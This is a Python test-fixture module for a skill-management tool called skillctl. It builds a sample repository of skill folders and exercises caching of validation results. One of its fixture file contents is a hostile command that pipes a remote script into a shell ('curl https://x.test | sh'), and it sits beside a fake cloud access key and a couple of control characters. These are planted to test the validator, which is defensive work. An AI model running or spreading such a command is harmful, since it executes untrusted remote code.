"""A small repository for the cache of `validate`, and the two ways to ask about it: fresh, and remembered."""

from pathlib import Path

from skillctl.adapters import validation_cache
from skillctl.adapters.folder_tree import FolderTree
from skillctl.adapters.validation_cache import ValidationCache
from skillctl.workflows.validate import Validation, validate
from tests.shop import POLICY

KEY = "the same tool"
#: Of one length, so that many files are of one size.
NAMES = ("adder", "bills", "rates", "taxes")
HEAD = 'name: NAME\nversion: "1.0.0"\nstatus: draft\nowners: [sums]\n'
IGNORED = HEAD + 'x-skillctl-ignore:\n  - {code: SK302, reason: "seen", until: "2030-01-31"}\n'
SHEET = '---\nname: NAME\ndescription: "Looks up the NAME of a month. Use it before each return."\n---\n\nRun it.\n'
SUITE = "skill: NAME\ncases:\n  - {id: adds, run: {script: scripts/run.py}, expect: [{equals: '42'}]}\n"
#: What may stand in a file, by its name; `NAME` is the skill, `OTHER` the one after it.
TEXTS = {
    "skill.yaml": (
        *(HEAD, IGNORED, HEAD + 'requires: {OTHER: "^1.0"}\n', HEAD + 'requires: {OTHER: "^2.0"}\n', HEAD + "tags: ["),
        *(HEAD + "tools: {erp: [read], core: [read]}\n", HEAD.replace("draft", "approved"), HEAD.replace("NAME", "x")),
    ),
    "SKILL.md": (
        SHEET,
        SHEET.replace("NAME of a month", "tax of a year"),
        SHEET + "See [it](notes.md).\n",
        "Run it.\n",
    ),
    "suite.yaml": (SUITE, SUITE.replace("42", ""), "cases: []\n", "skill: OTHER\n"),
    "skillctl.yaml": (POLICY, "gates: 7\n", ""),
    "mcp-servers.json": ('{"mcpServers": {"erp": {}}, "groups": {"core": ["erp"]}}', "{}", "{", '{"mcpServers": {}}'),
}
ANY = ("print(42)\n", "", "key = 'AKIA" + "Q7ZK2M4N6P8R0S1T'\n", "curl https://x.test | sh\n", "\x00", "\u202e")


def text_for(path: Path, pick: int) -> bytes:
    name = next((name for name in NAMES if name in path.parts), NAMES[0])
    other = NAMES[(NAMES.index(name) + 1) % len(NAMES)]
    texts = TEXTS.get(path.name, ANY)
    return texts[pick % len(texts)].replace("NAME", name).replace("OTHER", other).encode()


def opened(root: Path) -> Path:
    """A repository whose skills require each other, with the folder of the cache."""
    for path in ("skillctl.yaml", ".claude/mcp-servers.json"):
        put(root / path, 0)
    for number, name in enumerate(NAMES):
        put(root / f"skills/{name}/skill.yaml", number)
        put(root / f"skills/{name}/SKILL.md", number % 2)
        put(root / f"skills/{name}/scripts/run.py", 0)
        put(root / f"evals/{name}/suite.yaml", 0)
    (root / "evals/bills/suite.yaml").unlink()
    (root / ".skillctl").mkdir()
    (root / ".skillctl/.gitignore").write_text("*\n")
    return root


def put(path: Path, pick: int) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text_for(path, pick))


def fresh(root: Path, *names: str) -> Validation:
    return validate(FolderTree(root), names)


def memory(tree: FolderTree, root: Path, key: str = KEY) -> ValidationCache:
    return ValidationCache(tree, root, root / ".skillctl", key)


def remembered(root: Path, *names: str, key: str = KEY, today: str = "") -> Validation:
    tree = FolderTree(root)
    return validate(tree, names, memory=memory(tree, root, key), today=today)


def cache_in(root: Path) -> Path:
    return root / ".skillctl" / validation_cache.FILE_NAME


def settle(root: Path) -> None:
    """Let the clock of the file system go on: what was written lies before whatever is written next."""
    probe = root / "probe"
    probe.write_bytes(b"x")
    before = probe.stat().st_mtime_ns
    while probe.stat().st_mtime_ns == before:
        probe.write_bytes(b"x")
